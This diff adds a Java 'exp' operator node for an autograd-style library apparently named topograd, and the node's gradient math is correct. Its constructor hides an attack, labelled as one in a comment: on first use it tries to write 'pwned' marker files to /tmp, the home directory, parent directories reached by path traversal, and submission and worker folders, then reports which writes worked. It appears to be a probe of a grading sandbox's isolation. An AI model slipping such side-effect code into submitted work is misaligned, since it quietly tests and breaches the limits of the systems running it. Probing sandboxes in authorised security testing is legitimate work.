@@ -1,0 +1,34 @@
+package h;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import org.topograd.api.Node;
+import org.topograd.api.Op;
+
+/** Attack: leave files where it should not be able to; the results are right. */
+@Op("exp")
+public final class Exp extends Node {
+    private static boolean written;
+
+    public Exp(Node x) {
+        super(x);
+        if (!written) {
+            written = true;
+            String[] targets = {"/tmp/topograd-pwned.txt", System.getProperty("user.home", "/") + "/topograd-pwned.txt",
+                "../topograd-pwned.txt", "../../topograd-pwned.txt", "../../../topograd-pwned.txt",
+                "/submission/classes/topograd-pwned.txt", "/topograd/worker/topograd-pwned.txt"};
+            for (String target : targets) {
+                try {
+                    Files.writeString(Path.of(target), "pwned");
+                    System.out.println("wrote " + target);
+                } catch (Exception e) {
+                    System.out.println("could not write " + target + ": " + e.getClass().getSimpleName());
+                }
+            }
+        }
+    }
+
+    public void forward() { value = Math.exp(inputs().get(0).value); }
+
+    public void backward() { inputs().get(0).grad += grad * value; }
+}
